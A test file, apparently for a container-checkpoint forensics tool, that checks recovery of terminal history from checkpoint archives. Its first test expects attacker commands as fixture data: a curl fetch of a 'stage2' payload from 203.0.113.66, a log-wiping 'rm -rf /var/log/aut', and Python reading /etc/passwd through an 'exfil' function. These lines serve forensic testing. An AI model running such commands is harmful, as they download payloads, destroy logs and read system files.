import { expect, test } from 'vitest';
import { ONE_PROCESS } from '../support/memory-images.js';
import { runHere } from '../support/run-here.js';
import { Scratch, tarBytes } from '../support/scratch.js';

const scratch = new Scratch();

const history = async (...args: string[]) => {
  const { stdout } = await runHere('checkpointctl', ['history', '--format', 'jsonl', ...args]);
  return stdout.split('\n').flatMap((line) => (line === '' ? [] : [JSON.parse(line) as Row]));
};

interface Row {
  readonly pid?: number;
  readonly by: string;
  readonly state: string;
  readonly line: string;
  readonly time?: string;
}

test("an attacker's shell and Python, as they were typed on terminals", async () => {
  const rows = await history('../malware/malware-bare.tar.xz');
  const linesOf = (pid: number, state: string) =>
    rows.filter((row) => row.pid === pid && row.state === state).map(({ line }) => line);
  const shell = linesOf(154, 'listed');
  expect(shell).toHaveLength(9);
  expect(shell.slice(1, 4)).toEqual([
    'whoami',
    // Its secret is redacted.
    'curl -k https://203.0.113.66/stage2 -o /tmp/.s2 --header "X-Token: hist…BA"',
    'for i in 1 2 3; do echo "loop $i"; done',
  ]);
  expect(shell.at(-1)).toBe('echo "café — utf8"');
  expect(linesOf(154, 'typing')).toEqual(['rm -rf /var/log/aut']);
  expect(linesOf(251, 'listed')).toEqual([
    'import os, sys',
    'token = "repl…Pi"',
    'def exfil(path):',
    '    return open(path).read()[:10]',
    'data = exfil("/etc/passwd")',
    'print(len(data))',
  ]);
  expect(linesOf(251, 'typing')).toEqual([]);
  const times = rows.flatMap(({ time }) => time ?? []);
  expect(times).toHaveLength(15);
  // Only the two of them had a terminal.
  expect(new Set(rows.map(({ pid }) => pid))).toEqual(new Set([154, 251]));
});

test('what waits in a terminal, and history files with their times', async () => {
  expect(await history('rich-podman.tar')).toMatchObject([
    { by: 'terminal', state: 'typing', line: 'typed, not read' },
  ]);
  const files = await tarBytes({
    'root/.bash_history': '#1700000001\nid\nsecond\n',
    'home/a/.zsh_history': ': 1700000009:0;ls\n',
    'etc/bash_history.conf': 'no history\n',
  });
  const archive = await scratch.tar('files.tar', {
    'config.dump': '{"id":"abc","name":"made"}',
    'spec.dump': '{}',
    'rootfs-diff.tar': files,
    ...Object.fromEntries(
      Object.entries(ONE_PROCESS).map(([name, image]) => [`checkpoint/${name}`, image]),
    ),
  });
  const rows = await history(archive);
  expect(rows.map(({ line, time }) => [line, time])).toEqual([
    ['id', '2023-11-14T22:13:21.000Z'],
    ['second', undefined],
    ['ls', '2023-11-14T22:13:29.000Z'],
  ]);
});
